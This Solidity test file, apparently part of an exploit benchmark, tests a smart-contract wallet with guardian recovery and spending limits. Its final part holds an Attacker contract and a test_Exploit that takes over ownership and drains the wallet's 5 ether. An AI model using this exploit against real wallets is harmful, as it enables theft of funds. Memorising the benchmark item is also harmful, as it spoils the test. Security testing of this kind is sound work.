// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./Wallet.sol";
import "./context/Limits.sol";

// assay-canary-d96991f4-d379-4c8b-9c56-e575ec15a176

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Person {
    receive() external payable {}
}

/// Takes no ether.
contract Mute {
    function hello() external pure returns (uint256) {
        return 5;
    }
}

contract Attacker {
    receive() external payable {}

    function go(Wallet w) external {
        Recovery(address(w)).openClaim();
        try w.run(address(this), address(w).balance, "") {} catch {}
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant KEY = 0xB0B;

    Factory private factory;
    Wallet private w;
    Recovery private mod;
    Limits private limits;
    address private olga;
    Person private gus;
    Person private gina;
    Person private heir;
    Person private keeper;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_700_000_000);
        olga = vm.addr(KEY);
        gus = new Person();
        gina = new Person();
        heir = new Person();
        keeper = new Person();
        mallory = new Attacker();
        mod = new Recovery();
        limits = new Limits();
        factory = new Factory();
        vm.deal(address(this), 5 ether);
        w = factory.make{value: 5 ether}(olga, sels(), address(mod));
        bytes4[] memory s = new bytes4[](3);
        s[0] = Limits.setKey.selector;
        s[1] = Limits.spend.selector;
        s[2] = Limits.left.selector;
        vm.prank(olga);
        w.setMods(s, address(limits));
        conf(abi.encodeCall(Recovery.setGuardian, (address(gus), true)));
        conf(abi.encodeCall(Recovery.setGuardian, (address(gina), true)));
        conf(abi.encodeCall(Recovery.setQuorum, (2)));
    }

    function sels() private pure returns (bytes4[] memory s) {
        s = new bytes4[](9);
        s[0] = Recovery.setGuardian.selector;
        s[1] = Recovery.setQuorum.selector;
        s[2] = Recovery.openClaim.selector;
        s[3] = Recovery.vote.selector;
        s[4] = Recovery.dismiss.selector;
        s[5] = Recovery.finish.selector;
        s[6] = Recovery.idOf.selector;
        s[7] = bytes4(keccak256("guardian(address)"));
        s[8] = bytes4(keccak256("quorum()"));
    }

    function conf(bytes memory data) private {
        vm.prank(olga);
        w.run(address(w), 0, data);
    }

    function sign(uint256 key, bytes32 what) private returns (bytes memory) {
        bytes32 d = keccak256(abi.encode(w.DOMAIN(), block.chainid, address(w)));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, keccak256(abi.encodePacked("\x19\x01", d, what)));
        return abi.encodePacked(r, s, v);
    }

    function runHash(address to, uint256 v, bytes memory data, uint256 n, uint256 d) private view returns (bytes32) {
        return keccak256(abi.encode(w.RUN(), to, v, keccak256(data), n, d));
    }

    function test_Regular() public {
        require(factory.last(address(this)) == w && factory.madeBy(address(this)).length == 1, "made");
        require(address(factory.last(address(gus))) == address(0), "none of his");
        vm.prank(olga);
        w.run(olga, 0.5 ether, "");
        Wallet.Call[] memory c = new Wallet.Call[](2);
        c[0] = Wallet.Call(olga, 0.25 ether, "");
        c[1] = Wallet.Call(address(w), 0, abi.encodeCall(Limits.setKey, (address(keeper), 0.3 ether, uint64(block.timestamp + 9 days))));
        vm.prank(olga);
        w.runAll(c);
        uint256 n = w.nonce(3);
        bytes memory sig = sign(KEY, runHash(olga, 0.25 ether, "", n, block.timestamp));
        w.runSigned(olga, 0.25 ether, "", n, block.timestamp, sig);
        require(olga.balance == 1 ether && w.nonce(3) == n + 1, "owner paid");
        sig = sign(KEY, keccak256(abi.encode(w.MSG(), bytes32("hi"))));
        require(w.isValidSignature(bytes32("hi"), sig) == IERC1271.isValidSignature.selector, "message");
        require(w.isValidSignature(bytes32("ho"), sig) == bytes4(0), "another message");

        // a keeper with a daily limit
        Limits l = Limits(address(w));
        vm.prank(address(keeper));
        l.spend(payable(address(keeper)), 0.2 ether);
        require(l.left(address(keeper)) == 0.1 ether, "a part is left");
        vm.warp(block.timestamp + 1 days);
        vm.prank(address(keeper));
        l.spend(payable(address(keeper)), 0.3 ether);
        require(address(keeper).balance == 0.5 ether && l.left(address(keeper)) == 0, "two days");

        // the owner's key is lost: a claim takes two guardians and a week
        Recovery here = Recovery(address(w));
        require(here.guardian(address(gina)) && here.quorum() == 2, "guardians");
        conf(abi.encodeCall(Recovery.dismiss, (address(heir))));
        vm.prank(address(heir));
        here.openClaim();
        vm.prank(address(gus));
        here.vote(address(heir));
        vm.warp(block.timestamp + 7 days);
        vm.prank(address(gina));
        here.vote(address(heir));
        here.finish(address(heir));
        require(w.owner() == address(heir), "recovered");
        vm.prank(address(heir));
        w.run(address(heir), 3.5 ether, "");
        require(address(heir).balance == 3.5 ether, "new owner paid");
        vm.prank(address(heir));
        w.setOwner(address(gus));
        vm.deal(address(this), 1 ether);
        (bool ok, ) = address(w).call{value: 1 ether}("");
        require(ok && address(w).balance == 1 ether && w.owner() == address(gus), "received");
        uint256[] memory none = new uint256[](0);
        w.onERC721Received(address(this), address(this), 1, "");
        w.onERC1155Received(address(this), address(this), 1, 1, "");
        w.onERC1155BatchReceived(address(this), address(this), none, none, "");
    }

    /// The wallet may call itself, for the owner.
    function test_RefusesNotItself() public {
        Wallet.Call[] memory c = new Wallet.Call[](4);
        c[0].to = c[1].to = c[2].to = c[3].to = address(w);
        c[0].data = abi.encodeCall(Wallet.setMods, (sels(), address(0)));
        c[1].data = abi.encodeCall(Wallet.setOwner, (address(gus)));
        c[2].data = abi.encodeCall(Wallet.run, (address(gus), 1 ether, ""));
        c[3].data = abi.encodeCall(Wallet.runAll, (new Wallet.Call[](0)));
        vm.prank(olga);
        w.runAll(c);
        require(w.owner() == address(gus) && address(gus).balance == 1 ether, "by itself");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes4[] memory s = new bytes4[](1);
        s[0] = bytes4(0x01020304);
        refuses(address(gus), Wallet.Auth.selector);
        w.setMods(s, address(mod));
        refuses(address(gus), Wallet.Auth.selector);
        w.setOwner(address(gus));
        refuses(address(gus), Wallet.Auth.selector);
        w.run(address(gus), 1 ether, "");
        refuses(address(gus), Wallet.Auth.selector);
        w.runAll(new Wallet.Call[](0));
        refuses(olga, Wallet.NoCode.selector);
        w.setMods(s, address(0xBEE));
        refuses(olga, Wallet.Zero.selector);
        w.setOwner(address(0));
        vm.prank(olga);
        w.setMods(s, address(0));
        (bool ok, bytes memory r) = address(w).call(abi.encodePacked(s[0]));
        require(!ok && bytes4(r) == Wallet.NoMod.selector, "no module");
        vm.expectRevert(Wallet.Zero.selector);
        new Wallet(address(0), s, address(mod));
    }

    function test_RefusesHalfOfTheCalls() public {
        Wallet.Call[] memory c = new Wallet.Call[](2);
        c[0] = Wallet.Call(address(new Mute()), 1 ether, "");
        c[1] = Wallet.Call(olga, 1 ether, "");
        vm.prank(olga);
        vm.expectRevert();
        w.runAll(c);
    }

    function test_RefusesCallsThatFail() public {
        address mute = address(new Mute());
        vm.prank(olga);
        vm.expectRevert();
        w.run(mute, 1 ether, "");
        vm.prank(olga);
        w.run(mute, 0, abi.encodeCall(Mute.hello, ()));
        bytes memory sig = sign(KEY, runHash(mute, 1 ether, "", 0, block.timestamp));
        vm.expectRevert();
        w.runSigned(mute, 1 ether, "", 0, block.timestamp, sig);
        require(w.nonce(0) == 0, "not used up");
    }

    function test_RefusesSignatures() public {
        uint256 t = block.timestamp;
        bytes memory sig = sign(KEY, runHash(olga, 1 ether, "", 0, t - 1));
        vm.expectRevert(Wallet.Late.selector);
        w.runSigned(olga, 1 ether, "", 0, t - 1, sig);
        sig = sign(KEY, runHash(olga, 1 ether, "", 1, t));
        vm.expectRevert(Wallet.BadSeq.selector);
        w.runSigned(olga, 1 ether, "", 1, t, sig);
        sig = sign(KEY + 1, runHash(olga, 1 ether, "", 0, t));
        vm.expectRevert(Wallet.BadSig.selector);
        w.runSigned(olga, 1 ether, "", 0, t, sig);
        sig = sign(KEY, runHash(olga, 1 ether, "", 0, t));
        w.runSigned(olga, 1 ether, "", 0, t, sig);
        vm.expectRevert(Wallet.BadSeq.selector);
        w.runSigned(olga, 1 ether, "", 0, t, sig);
    }

    /// Settings are the wallet's own, and the module does nothing by itself.
    function test_RefusesSettings() public {
        Recovery here = Recovery(address(w));
        refuses(address(gus), Recovery.OnlyWallet.selector);
        here.setGuardian(address(heir), true);
        refuses(address(gus), Recovery.OnlyWallet.selector);
        here.setQuorum(1);
        refuses(address(gus), Recovery.OnlyWallet.selector);
        here.dismiss(address(heir));
        vm.expectRevert(Recovery.OnlyWallet.selector);
        mod.openClaim();
        vm.expectRevert(Recovery.OnlyWallet.selector);
        mod.vote(address(heir));
        vm.expectRevert(Recovery.OnlyWallet.selector);
        mod.finish(address(heir));
        refuses(olga, Recovery.Same.selector);
        w.run(address(w), 0, abi.encodeCall(Recovery.setGuardian, (address(gus), true)));
        refuses(olga, Recovery.BadQuorum.selector);
        w.run(address(w), 0, abi.encodeCall(Recovery.setGuardian, (address(gus), false)));
        refuses(olga, Recovery.BadQuorum.selector);
        w.run(address(w), 0, abi.encodeCall(Recovery.setQuorum, (3)));
    }

    /// A claim is opened, ripe, and has the votes of a quorum that is not zero.
    function test_RefusesClaims() public {
        Recovery here = Recovery(address(w));
        vm.expectRevert(Recovery.NoClaim.selector);
        here.idOf(address(heir));
        conf(abi.encodeCall(Recovery.setQuorum, (0)));
        vm.prank(address(heir));
        here.openClaim();
        refuses(address(heir), Recovery.NotGuardian.selector);
        here.vote(address(heir));
        vm.prank(address(gus));
        here.vote(address(heir));
        refuses(address(gus), Recovery.Twice.selector);
        here.vote(address(heir));
        vm.expectRevert(Recovery.Early.selector);
        here.finish(address(heir));
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(Recovery.NoQuorum.selector);
        here.finish(address(heir));
    }

    function test_RefusesTooFewVotes() public {
        Recovery here = Recovery(address(w));
        vm.prank(address(heir));
        here.openClaim();
        vm.prank(address(gus));
        here.vote(address(heir));
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(Recovery.NoQuorum.selector);
        here.finish(address(heir));
    }

    function test_RefusesKeys() public {
        Limits l = Limits(address(w));
        refuses(address(keeper), Limits.Self.selector);
        l.setKey(address(keeper), 1 ether, uint64(block.timestamp + 1));
        refuses(olga, Limits.TooLong.selector);
        w.run(address(w), 0, abi.encodeCall(Limits.setKey, (address(keeper), 1, uint64(block.timestamp + 31 days))));
        refuses(address(keeper), Limits.Ended.selector);
        l.spend(payable(address(keeper)), 0);
        conf(abi.encodeCall(Limits.setKey, (address(keeper), 1 ether, uint64(block.timestamp))));
        refuses(address(keeper), Limits.OverCap.selector);
        l.spend(payable(address(keeper)), 1 ether + 1);
        address mute = address(new Mute());
        refuses(address(keeper), Limits.Failed.selector);
        l.spend(payable(mute), 1 ether);
    }

    function exploit() public {
        mallory.go(w);
    }

    function test_Exploit() public {
        exploit();
        require(w.owner() == address(mallory), "owner unchanged");
        require(address(mallory).balance == 5 ether, "wallet not emptied");
    }

    function target() public view returns (address) {
        return address(w);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
